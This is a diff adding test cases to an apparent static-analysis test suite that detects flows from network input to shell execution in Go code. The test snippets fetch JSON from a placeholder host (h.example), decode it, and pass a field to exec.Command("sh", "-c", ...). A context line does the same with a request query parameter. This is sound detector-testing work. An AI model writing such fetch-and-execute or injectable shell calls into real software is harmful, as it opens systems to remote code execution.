@@ -125,6 +125,33 @@ describe("what only Go has", () => {
     ).toBe(true);
   });
 
+  test.each([
+    ["a decoder, into a map", "var u map[string]string", "Decode(&u)", 'u["a"]'],
+    ["a decoder, into a record", "var u struct { A string }", "Decode(&u)", "u.A"],
+    [
+      "a decoder, into a list of records",
+      "var u struct { All []struct { A string } }",
+      "Decode(&u)",
+      "u.All[0].A",
+    ],
+  ])("what an answer says is in the variable that is filled by %s", (_, declared, fill, used) => {
+    const body = `r, _ := http.Get("https://h.example/a"); ${declared}; json.NewDecoder(r.Body).${fill}; exec.Command("sh", "-c", ${used}).Run()`;
+    const facts = factsOf("go", `package main\n${IMPORTS}\nfunc main() { ${body} }`, context);
+    const flow = { from: "network.receive" as const, to: "execute.code" as const };
+    expect(
+      facts.some((fact) => isFlow(fact, flow)),
+      described(facts).join("\n"),
+    ).toBe(true);
+  });
+
+  test("what is filled from elsewhere takes nothing of an answer along", () => {
+    const body = `r, _ := http.Get("https://h.example/a"); var u, v struct { A string }; json.NewDecoder(r.Body).Decode(&u); json.Unmarshal([]byte("{}"), &v); exec.Command("sh", "-c", v.A).Run()`;
+    const facts = factsOf("go", `package main\n${IMPORTS}\nfunc main() { ${body} }`, context);
+    expect(facts.filter((fact) => fact.kind === "flow" && fact.from === "network.receive")).toEqual(
+      [],
+    );
+  });
+
   test("a request's own words are what a stranger sends", () => {
     const text = `package web\n${IMPORTS}\nfunc h(w http.ResponseWriter, r *http.Request) { exec.Command("sh", "-c", r.URL.Query().Get("q")).Run() }`;
     const flow = { from: "read.input" as const, to: "execute.code" as const };
